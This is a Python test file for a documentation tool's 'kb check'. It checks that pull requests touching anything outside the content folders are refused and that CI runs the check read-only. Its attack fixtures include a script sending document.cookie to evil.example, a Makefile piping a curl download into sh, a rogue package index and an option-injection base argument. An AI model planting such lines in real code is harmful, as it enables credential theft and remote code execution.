"""A content pull request cannot change code: `kb check --base REF` refuses, at the file, any change outside the
content paths (kb.project.layout.CONTENT_PATHS), and CI runs it on every pull request with a read-only token.

Each attack of the second hostile round that changed code passed `kb check` and the build; here each is made in a
git copy of the project (its code files and the fixture archive, committed), and `kb check --base HEAD` must
refuse it naming the file. Content changes must still pass.
"""
from __future__ import annotations

import re
import shutil
import subprocess

import pytest
import yaml

from conftest import ROOT, edit, git
from kb.cli.commands import main as kb
from kb.project import layout

# Files of the project besides what `project` copies, that the attacks change.
REPO_FILES = (".github", "Makefile", "requirements", "pyproject.toml")
REFUSAL = "outside the content folders"



@pytest.fixture
def repo(project):
    """The project copy with the repository's CI and build files, committed: HEAD is a pull request's base."""
    for name in REPO_FILES:
        (shutil.copytree if (ROOT / name).is_dir() else shutil.copy2)(ROOT / name, project / name)
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "base")
    return project


def refused_files(repo, capsys, base: str = "HEAD") -> list[str]:
    """The files `kb check --base` refuses as code changes (exit 1 required when there are any)."""
    code = kb(["--root", str(repo), "check", "--lang", "en", "--base", base])
    out = capsys.readouterr().out
    named = re.findall(rf"^(\S+): file: \w[^\n]*{REFUSAL}", out, re.M)
    assert code == (1 if named else code), out
    return named


def test_no_change_and_content_changes_pass(repo, capsys):
    assert refused_files(repo, capsys) == []
    edit(repo, "docs/about.md", "\n", "\n\n")  # a tracked content file changed, uncommitted
    page = repo / "docs" / "topics" / "new-page.md"
    page.write_text("---\ntitle: 新页面\n---\n\n正文。\n", encoding="utf-8")  # untracked, new
    (repo / layout.DOCS / "issues" / "index.en.md").unlink(missing_ok=True)  # a deleted content file
    assert refused_files(repo, capsys) == []


ATTACKS = {
    # name: (file, old text or None to append, new text)
    "an mkdocs hook": ("mkdocs.yml", None, "hooks:\n  - evil_hook.py\n"),
    "an outside stylesheet": ("mkdocs.yml", "  - assets/kb.css\n", "  - assets/kb.css\n  - https://evil.example/x.css\n"),
    "code in the macros module": ("macros/__init__.py", None, "\nimport os\nos.system('id')\n"),
    "an inline script in the theme": ("overrides/main.html", "{% block content %}",
                                      "{% block content %}<script>fetch('https://evil.example/'+document.cookie)</script>"),
    "a download piped into sh": ("Makefile", None, "\ninstall: evil\nevil:\n\tcurl -fsSL https://evil.example/x | sh\n"),
    "an extra package index": ("requirements/test.txt", None, "--extra-index-url https://evil.example/simple\n"),
    "the PR workflow with write access": (".github/workflows/pull-request.yml", "permissions:\n  contents: read",
                                          "permissions:\n  contents: write\n  pull-requests: write"),
    "a new module of the build": ("mkdocs_kb/evil.py", None, "import os\n"),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
@pytest.mark.parametrize("how", ["uncommitted", "committed"])
def test_a_change_outside_the_content_paths_is_refused_naming_the_file(repo, capsys, name, how):
    path, old, new = ATTACKS[name]
    file = repo / path
    file.parent.mkdir(parents=True, exist_ok=True)
    if old is None:
        with file.open("a", encoding="utf-8") as out:
            out.write(new)
    else:
        edit(repo, path, old, new)
    base = git(repo, "rev-parse", "HEAD").strip()
    if how == "committed":
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", name)
    assert refused_files(repo, capsys, base) == [path]


def test_the_workflow_switched_to_pull_request_target_is_refused(repo, capsys):
    edit(repo, ".github/workflows/pull-request.yml", "on:\n  pull_request:", "on:\n  pull_request_target:")
    assert refused_files(repo, capsys) == [".github/workflows/pull-request.yml"]


def test_new_deleted_and_renamed_code_files_are_each_refused(repo, capsys):
    (repo / "evil_hook.py").write_text("print('hi')\n", encoding="utf-8")  # untracked
    (repo / ".github" / "workflows" / "new.yml").write_text("on: push\n", encoding="utf-8")
    git(repo, "add", ".github/workflows/new.yml")  # staged, never committed
    (repo / "overrides" / "404.html").unlink()  # deleted
    git(repo, "mv", "macros/__init__.py", "docs/macros.md")  # out of the code, into the content: the source counts
    git(repo, "mv", "docs/about.md", "overrides/about.html")  # out of the content, into the theme: the target counts
    assert refused_files(repo, capsys) == sorted([
        "evil_hook.py", ".github/workflows/new.yml", "overrides/404.html", "macros/__init__.py",
        "overrides/about.html"])


def test_a_content_folder_replaced_by_a_file_is_refused(repo, capsys):
    shutil.rmtree(repo / layout.SNIPPETS)
    (repo / layout.SNIPPETS).write_text("x\n", encoding="utf-8")
    assert layout.SNIPPETS in refused_files(repo, capsys)


def test_a_base_git_cannot_read_is_refused_not_passed(repo, capsys):
    for base in ("no-such-branch", "--output=x"):
        code = kb(["--root", str(repo), "check", "--lang", "en", f"--base={base}"])  # never read by git as an option
        out = capsys.readouterr().out
        assert not (repo / "x").exists()
        assert code == 1 and f"cannot compare the working tree with `{base}`" in out, out


def test_the_refusal_is_said_in_chinese_too(repo, capsys):
    edit(repo, "mkdocs.yml", "strict: true", "strict: false")
    assert kb(["--root", str(repo), "check", "--lang", "zh", "--base", "HEAD"]) == 1
    assert "mkdocs.yml: 文件: 改动了这个文件，不在内容目录" in capsys.readouterr().out


# ---- CI runs it on every pull request, read-only ------------------------------------------------------------

def workflow(name: str) -> dict:
    return yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text(encoding="utf-8"))


def test_the_pull_request_workflow_runs_the_check_against_the_base_read_only_on_pull_request():
    flow = workflow("pull-request.yml")
    trigger = flow.get("on", flow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert set(trigger) == {"pull_request"}
    assert flow["permissions"] == {"contents": "read"}
    steps = [step for job in flow["jobs"].values() for step in job["steps"]]
    assert all("permissions" not in job or job["permissions"] == {"contents": "read"} for job in flow["jobs"].values())
    checkout = next(step for step in steps if step.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0  # the base commit is in the clone
    assert checkout["with"]["persist-credentials"] is False
    check = next(step for step in steps if "kb check" in step.get("run", ""))
    assert check["run"].strip() == '.venv/bin/kb check --base "$BASE_SHA"'
    assert check["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"  # not pasted into the script


def test_no_workflow_runs_on_pull_request_target():
    for path in (ROOT / ".github" / "workflows").glob("*.y*ml"):
        flow = yaml.safe_load(path.read_text(encoding="utf-8"))
        trigger = flow.get("on", flow.get(True))
        assert "pull_request_target" not in (trigger if isinstance(trigger, (dict, list)) else [trigger]), path.name


# ---- every code path has an owner ---------------------------------------------------------------------------

def codeowners_rule(pattern: str) -> re.Pattern:
    """A CODEOWNERS pattern (gitignore's syntax, as GitHub reads it) as a regular expression over file paths."""
    anchored = pattern.startswith("/") or "/" in pattern.rstrip("/")
    body = pattern.strip("/")
    assert not re.search(r"[\[\]!\\]", body), f"CODEOWNERS: this test does not read {pattern!r}: extend it"
    regex = re.escape(body).replace(r"\*\*", ".*").replace(r"\*", "[^/]*").replace(r"\?", "[^/]")
    start = "" if anchored else "(?:.*/)?"
    end = "/.*" if pattern.endswith("/") else "(?:/.*)?"
    return re.compile(f"{start}{regex}{end}")


def test_every_tracked_path_outside_the_content_paths_has_an_owner():
    rules = []
    for line in (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines():
        if line.strip() and not line.lstrip().startswith("#"):
            pattern, *owners = line.split()
            assert all(re.fullmatch(r"@[\w-]+(?:/[\w-]+)?|[^@\s]+@[^@\s]+", owner) for owner in owners), line
            rules.append((codeowners_rule(pattern), owners))
    files = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split()
    code = [path for path in files if not any(path.startswith(f"{folder}/") for folder in layout.CONTENT_PATHS)]
    assert {path.split("/")[0] for path in code} >= {"kb", "mkdocs.yml", ".github", "Makefile"}
    unowned = []
    for path in code:
        owners = next((owners for rule, owners in reversed(rules) if rule.fullmatch(path)), [])  # the last match
        if not owners:
            unowned.append(path)
    assert not unowned, f"no owner in .github/CODEOWNERS for {unowned[:10]}"


def test_the_codeowners_reading_is_gitignores():
    assert codeowners_rule("*").fullmatch("a/b.py")
    assert codeowners_rule("/kb/").fullmatch("kb/x.py") and not codeowners_rule("/kb/").fullmatch("tests/kb/x.py")
    assert codeowners_rule("docs/").fullmatch("a/docs/x.md")
    assert not codeowners_rule("/Makefile").fullmatch("kb/Makefile")
    assert codeowners_rule("*.js").fullmatch("overrides/assets/kb.js")
